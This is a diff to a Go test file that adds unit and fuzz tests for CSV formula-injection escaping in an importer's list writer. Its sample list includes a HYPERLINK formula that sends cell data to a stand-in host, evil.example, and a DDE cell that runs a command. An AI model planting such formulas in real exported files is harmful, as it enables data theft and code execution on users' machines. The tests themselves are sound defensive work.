@@ -2,7 +2,9 @@ package importer_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -247,4 +249,123 @@ func TestFileName(t *testing.T) {
 	if _, err := importer.ParseType("contacts"); !errors.Is(err, importer.ErrUnknownType) {
 		t.Errorf("ParseType(contacts) err = %v", err)
 	}
+}
+
+// formulaCells are cells a spreadsheet would run, from hostile files.
+var formulaCells = []string{
+	"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+	"=cmd|' /C calc'!A0",
+	"+1+1",
+	"-2+3",
+	"@SUM(1,2)",
+	"\t=1",
+	"\r=1",
+	"  =1+1",
+	"\uFF1D1+1",
+}
+
+func TestWriteActionsEscapesFormulas(t *testing.T) {
+	t.Parallel()
+	for _, cell := range formulaCells {
+		t.Run(cell, func(t *testing.T) {
+			t.Parallel()
+			actions := []importer.Action{
+				{Kind: importer.ActionAddToList, List: cell, Account: "bob@remote.example"},
+				{Kind: importer.ActionAddToList, List: "Friends", Account: "=1+2@remote.example"},
+			}
+			var b bytes.Buffer
+			if err := importer.WriteActions(&b, importer.Lists, actions); err != nil {
+				t.Fatal(err)
+			}
+			cr := csv.NewReader(bytes.NewReader(b.Bytes()))
+			cr.FieldsPerRecord = -1
+			recs, err := cr.ReadAll()
+			if err != nil {
+				t.Fatalf("encoding/csv cannot read %q: %v", b.String(), err)
+			}
+			for _, rec := range recs {
+				for _, c := range rec {
+					if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(strings.TrimLeft(c, " ")[0])) || strings.HasPrefix(c, "\uFF1D") {
+						t.Errorf("cell %q of %q would run as a formula", c, b.String())
+					}
+				}
+			}
+			// Read again, list titles are the same text behind an apostrophe.
+			rows, err := importer.NewReader(&b, importer.Lists).ReadAll()
+			if err != nil {
+				t.Fatal(err)
+			}
+			want := []string{"'" + cell, "Friends"}
+			if got := []string{rows[0].List, rows[1].List}; !cmp.Equal(want, got) {
+				t.Errorf("lists read back = %q, want %q", got, want)
+			}
+			// An apostrophe is never part of an address: the reader drops it.
+			if got := rows[1].Account; got != "=1+2@remote.example" {
+				t.Errorf("account read back = %q, want it without the apostrophe", got)
+			}
+		})
+	}
+}
+
+func TestWriterKeepsFormulasByDefault(t *testing.T) {
+	t.Parallel()
+	var b bytes.Buffer
+	rows := []importer.Row{{List: "=1+1", Account: "-a@remote.example"}}
+	if err := importer.WriteRows(&b, importer.Lists, rows); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := b.String(), "=1+1,-a@remote.example\n"; got != want {
+		t.Errorf("WriteRows = %q, want %q (byte for byte, as Mastodon)", got, want)
+	}
+	// WriteAction on a plain Writer gives the exact cells of a failures file.
+	b.Reset()
+	w := importer.NewWriter(&b, importer.Lists)
+	if err := w.WriteAction(importer.Action{Kind: importer.ActionAddToList, List: "=1+1", Account: "-a@remote.example"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.WriteAction(importer.Action{Kind: importer.ActionCreateList, List: "skipped"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := b.String(), "=1+1,-a@remote.example\n"; got != want {
+		t.Errorf("WriteAction = %q, want %q", got, want)
+	}
+}
+
+// FuzzWriterEscapeFormulas checks that with EscapeFormulas no cell starts
+// a formula, that the file still parses, and that what is read back is
+// what was written with at most an apostrophe added.
+func FuzzWriterEscapeFormulas(f *testing.F) {
+	for _, c := range formulaCells {
+		f.Add(c)
+	}
+	f.Add("Friends")
+	f.Add("")
+	f.Fuzz(func(t *testing.T, cell string) {
+		var b bytes.Buffer
+		w := importer.NewWriter(&b, importer.Lists)
+		w.EscapeFormulas = true
+		if err := w.Write(importer.Row{List: cell, Account: "bob@remote.example"}); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Flush(); err != nil {
+			t.Fatal(err)
+		}
+		cr := csv.NewReader(bytes.NewReader(b.Bytes()))
+		cr.FieldsPerRecord = -1
+		recs, err := cr.ReadAll()
+		if err != nil || len(recs) != 1 || len(recs[0]) != 2 {
+			t.Fatalf("encoding/csv reads %q as %q, %v", b.String(), recs, err)
+		}
+		// encoding/csv reads a quoted CRLF as LF.
+		got, want := recs[0][0], strings.ReplaceAll(cell, "\r\n", "\n")
+		if got != want && got != "'"+want {
+			t.Fatalf("cell %q written as %q", cell, got)
+		}
+		if t := strings.TrimLeft(got, " "); t != "" && (strings.ContainsRune("=+-@", rune(t[0])) || strings.ContainsRune("\t\r\n", rune(got[0]))) {
+			panic(fmt.Sprintf("cell %q written as formula %q", cell, got))
+		}
+	})
 }
